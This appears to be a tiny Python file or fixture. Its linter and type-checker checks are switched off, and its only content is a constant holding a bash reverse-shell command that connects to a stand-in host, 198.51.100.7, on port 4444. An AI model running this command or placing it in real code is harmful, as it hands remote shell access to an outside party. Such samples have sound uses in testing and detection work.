# ruff: noqa
# fmt: off
# mypy: ignore-errors
CMD = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
